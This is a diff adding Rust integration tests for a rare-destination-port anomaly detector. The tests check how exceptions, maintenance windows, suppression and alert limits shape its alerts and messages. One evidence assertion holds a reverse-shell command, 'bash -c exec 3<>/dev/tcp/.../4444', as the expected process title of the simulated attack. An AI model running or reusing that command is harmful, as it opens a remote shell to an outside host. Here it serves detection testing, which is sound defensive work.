@@ -1,0 +1,240 @@
+//! `rareport detect` with rules: what exceptions, calendar windows, suppression
+//! and limits do to the alerts of corpus/fleet-day, and what is told of it.
+
+use std::path::PathBuf;
+
+use serde_json::Value;
+use tempfile::TempDir;
+
+use crate::common::{Run, corpus, rareport};
+
+const RULE: &str = "[[rule]]\nname = \"Rare port\"\nrule_id = \"rare\"\n\
+    job_ids = [\"linux_rare_destination_port\"]\n";
+
+/// The ports of the attack, in order of time.
+const ATTACK: [&str; 7] = ["4444", "31337", "6667", "8291", "31330", "31331", "31332"];
+
+/// A rule file.
+struct Rules {
+    _directory: TempDir,
+    path: PathBuf,
+}
+
+impl Rules {
+    fn new(text: &str) -> Rules {
+        let directory = TempDir::new().unwrap();
+        let path = directory.path().join("rules.toml");
+        std::fs::write(&path, text).unwrap();
+        Rules { _directory: directory, path }
+    }
+
+    fn detect(&self, more: &[&str]) -> Run {
+        let fleet = corpus("fleet-day");
+        let arguments = ["detect", &fleet, "--rules", self.path.to_str().unwrap()];
+        rareport(&[&arguments, more].concat())
+    }
+}
+
+/// Runs the rule and what follows it in the file.
+fn detect_with(rest: &str) -> Run {
+    Rules::new(&format!("{RULE}{rest}")).detect(&[]).expect(0)
+}
+
+fn ports(run: &Run) -> Vec<String> {
+    let port = |alert: &Value| alert["destination"]["port"][0].as_str().unwrap().to_owned();
+    run.documents().iter().map(port).collect()
+}
+
+#[track_caller]
+fn told(run: &Run, sentence: &str) {
+    assert!(run.stderr.contains(sentence), "{sentence}\n{}", run.stderr);
+}
+
+#[test]
+fn the_printed_rule_is_the_one_that_is_executed() {
+    let printed = rareport(&["detect", "--print-rule"]).expect(0);
+    let with_file = Rules::new(&printed.stdout).detect(&[]).expect(0);
+    let without = rareport(&["detect", &corpus("fleet-day")]).expect(0);
+    assert_eq!(ports(&without), ATTACK);
+    assert_eq!(with_file.stdout, without.stdout);
+}
+
+#[test]
+fn what_is_in_force_is_a_rule_file() {
+    let rules = Rules::new(&format!("{RULE}threshold = 20\n"));
+    let run = rules.detect(&["--explain-config", "--threshold", "60"]).expect(0);
+    assert!(run.stdout.contains("# Job: linux_rare_destination_port"), "{}", run.stdout);
+    assert_eq!(ports(&Rules::new(&run.stdout).detect(&[]).expect(0)), ATTACK[..3]);
+}
+
+#[test]
+fn an_alert_has_its_evidence() {
+    let run = detect_with("severity = \"high\"\n");
+    let alert = &run.documents()[0];
+    // The record of the kernel: `grep -n ':3163)' corpus/fleet-day/audit.log`.
+    let sample = &alert["rareport"]["evidence"][0];
+    assert_eq!(sample["@timestamp"], "2026-06-04T09:36:05.716Z");
+    assert_eq!(sample["command"], "ausearch -a 3163 --node web01");
+    assert_eq!(sample["process"]["pid"], 1971);
+    assert_eq!(sample["process"]["parent"]["pid"], 396);
+    assert_eq!(sample["process"]["executable"], "/usr/bin/bash");
+    assert_eq!(sample["process"]["title"], "bash -c exec 3<>/dev/tcp/203.0.113.66/4444");
+    // The bucket of 09:30 ends at 09:45, and the next execution is at 10:00.
+    assert_eq!(alert["kibana.alert.original_time"], "2026-06-04T09:30:00.000Z");
+    assert_eq!(alert["@timestamp"], "2026-06-04T10:00:00.000Z");
+    assert_eq!(
+        alert["kibana.alert.reason"],
+        "event with process bash, destination 203.0.113.66:4444, by www-data on web01 created \
+         high alert Rare port."
+    );
+    let id = alert["kibana.alert.uuid"].as_str().unwrap();
+    assert_eq!(id.len(), 64);
+    // No alert tells of the clock.
+    assert_eq!(detect_with("severity = \"high\"\n").stdout, run.stdout);
+}
+
+#[test]
+fn an_exception_silences_what_is_known() {
+    let run = detect_with(
+        "[[exception]]\ncomment = \"router of db01\"\nconditions = [\n\
+         { field = \"host.name\", is = \"db01\" },\n\
+         { field = \"destination.ip\", cidr = \"192.168.50.0/24\" },\n\
+         { field = \"process.executable\", wildcard = \"*/gtc\" }]\n\
+         [[exception]]\ncomment = \"no such host\"\n\
+         conditions = [{ field = \"host.name\", is = \"mail\" }]\n\
+         [[exception]]\ncomment = \"old\"\nexpires = 2026-06-02\n\
+         conditions = [{ field = \"destination.port\", is = 4444 }]\n",
+    );
+    assert_eq!(ports(&run), ["4444", "31337", "6667", "31330", "31331", "31332"]);
+    told(&run, "the exception “router of db01” covered 2 events and hid 1 alert");
+    told(&run, "the exception “no such host” matched nothing; is it still needed?");
+    told(&run, "the exception “old” has expired; 3 events after that would have matched");
+    told(&run, "6 alerts with a score of 50 or more in 339 buckets of 15 minutes; 1 hidden");
+}
+
+#[test]
+fn an_exception_hides_no_event_that_it_does_not_cover() {
+    // Two addresses had connections to port 31337 in its bucket.
+    let exception = "[[exception]]\ncomment = \"c\"\n\
+        conditions = [{ field = \"destination.ip\", is = \"2001:db8::66\" }]\n";
+    assert_eq!(ports(&detect_with(exception)), ATTACK);
+    let rules = Rules::new(&format!("{RULE}{exception}"));
+    let elastic = rules.detect(&["--profile", "elastic"]).expect(0);
+    assert!(!ports(&elastic).contains(&"31337".to_owned()));
+}
+
+#[test]
+fn what_is_ignored_is_not_learned_either() {
+    let run = detect_with(
+        "[[exception]]\ncomment = \"scanner\"\naction = \"ignore\"\n\
+         conditions = [{ field = \"process.name\", wildcard = \"gtc*\" }]\n",
+    );
+    let alerts = run.documents();
+    assert_eq!(ports(&run)[..2], ATTACK[..2]);
+    let by_scanner = |alert: &Value| alert["process"]["name"].to_string().contains("gtc");
+    assert!(!alerts.iter().any(by_scanner), "{}", run.stdout);
+    told(&run, "the exception “scanner” kept ");
+    told(&run, "from being learned");
+}
+
+/// Whether an alert shows an event from the time between 09:30 and 10:10, in
+/// which the attack began.
+fn has_evidence_of_the_morning(run: &Run) -> bool {
+    let is_in = |sample: &Value| {
+        let time = sample["@timestamp"].as_str().unwrap();
+        ("2026-06-04T09:30:00.000Z".."2026-06-04T10:10:00.000Z").contains(&time)
+    };
+    run.documents()
+        .iter()
+        .any(|alert| alert["rareport"]["evidence"].as_array().unwrap().iter().any(is_in))
+}
+
+#[test]
+fn nothing_alerts_in_a_maintenance_window() {
+    let run = detect_with(
+        "[[calendar]]\ncomment = \"drill\"\nfrom = 2026-06-04T09:30:00Z\nto = 2026-06-04T10:10:00Z\n\
+         [[calendar]]\ncomment = \"another year\"\nfrom = 2025-01-01\nto = 2025-02-01\n",
+    );
+    assert!(run.documents().len() >= 4 && !has_evidence_of_the_morning(&run), "{}", run.stdout);
+    told(&run, "in the calendar window “drill”, neither learned nor looked at");
+    told(&run, "no event lies in the calendar window “another year”");
+    // The 4th of June 2026 is a Thursday.
+    let weekly = |day: &str| {
+        let when = format!("{{ days = [\"{day}\"], from = \"09:30\", to = \"10:10\" }}");
+        detect_with(&format!("[[calendar]]\ncomment = \"w\"\nweekly = {when}\n"))
+    };
+    let thursdays = weekly("thursday");
+    assert_eq!(thursdays.stdout, run.stdout);
+    assert!(has_evidence_of_the_morning(&weekly("friday")));
+}
+
+#[test]
+fn alike_alerts_are_counted_with_the_first() {
+    let run = detect_with("[rule.suppression]\nby = [\"process.name\"]\nduration = \"4h\"\n");
+    assert_eq!(ports(&run), ["4444", "31337", "6667", "31330"]);
+    let counts: Vec<_> = run
+        .documents()
+        .iter()
+        .map(|alert| alert["kibana.alert.suppression.docs_count"].as_u64().unwrap())
+        .collect();
+    assert_eq!(counts, [0, 0, 1, 2]);
+    told(&run, "4 alerts with a score of 50 or more in 339 buckets of 15 minutes; 3 counted");
+    let refused = Rules::new(&format!("{RULE}suppression = {{ by = [\"source.ip\"] }}\n"));
+    told(&refused.detect(&[]).expect(2), "cannot be grouped by source.ip");
+}
+
+#[test]
+fn an_execution_gives_the_best_and_the_next_one_the_rest() {
+    // Three ports had the same score in one bucket, which two executions look at.
+    let rules = Rules::new(&format!("{RULE}max_alerts = 1\n"));
+    let ours = rules.detect(&[]).expect(0);
+    assert_eq!(ports(&ours), ATTACK[..6]);
+    let times: Vec<String> =
+        ours.documents()[4..].iter().map(|alert| alert["@timestamp"].to_string()).collect();
+    assert_eq!(times, ["\"2026-06-04T11:45:00.000Z\"", "\"2026-06-04T12:00:00.000Z\""]);
+    told(&ours, "the rule rare lost 1 alert: there were more than 1 at a time");
+    let elastic = rules.detect(&["--profile", "elastic"]).expect(0);
+    assert_eq!(ports(&elastic), ATTACK[..5]);
+    told(&elastic, "the rule rare lost 2 alerts");
+}
+
+#[test]
+fn several_rules_have_alerts_of_their_own() {
+    let run = detect_with(
+        "[[rule]]\nname = \"Very rare\"\nrule_id = \"very\"\nthreshold = 65\n\
+         job_ids = [\"linux_rare_destination_port\"]\n\
+         [[rule]]\nname = \"Other\"\nrule_id = \"other\"\njob_ids = [\"linux_rare_user\"]\n",
+    );
+    let alerts = run.documents();
+    assert_eq!(alerts.len(), 8);
+    let of_very = |alert: &&Value| alert["kibana.alert.rule.rule_id"] == "very";
+    assert_eq!(alerts.iter().filter(of_very).count(), 1);
+    assert_ne!(alerts[0]["kibana.alert.uuid"], alerts[1]["kibana.alert.uuid"]);
+    told(&run, "rare: 7 alerts with a score of 50");
+    told(&run, "very: 1 alert with a score of 65");
+    told(&run, "the rule other was not executed: it is for linux_rare_user");
+}
+
+#[test]
+fn rules_that_leave_time_out_are_told() {
+    let run = detect_with("look_back = \"10m\"\n");
+    assert_eq!(run.stdout, "");
+    told(&run, "the rule rare lost 7 alerts, which were too old");
+    told(&run, "leaves 300 of every 900 seconds without a look");
+}
+
+#[test]
+fn rule_files_that_cannot_be_used() {
+    for (text, sentence) in [
+        ("", "there is no [[rule]] in it"),
+        ("[[rule]]\nname = \"x\"\ntreshold = 1\n", "line 3: unknown field `treshold`"),
+        ("[[rule]]\nname = \"x\"\ntreshold = 1\n", "did you mean threshold?"),
+        ("[[rule]\n", "line 1"),
+    ] {
+        told(&Rules::new(text).detect(&[]).expect(2), sentence);
+    }
+    let disabled = Rules::new(&format!("{RULE}enabled = false\n"));
+    told(&disabled.detect(&[]).expect(2), "none of the rules can be executed");
+    let missing = rareport(&["detect", "--rules", "/no/such/file", &corpus("fleet-day")]);
+    told(&missing.expect(2), "there is no such file");
+}
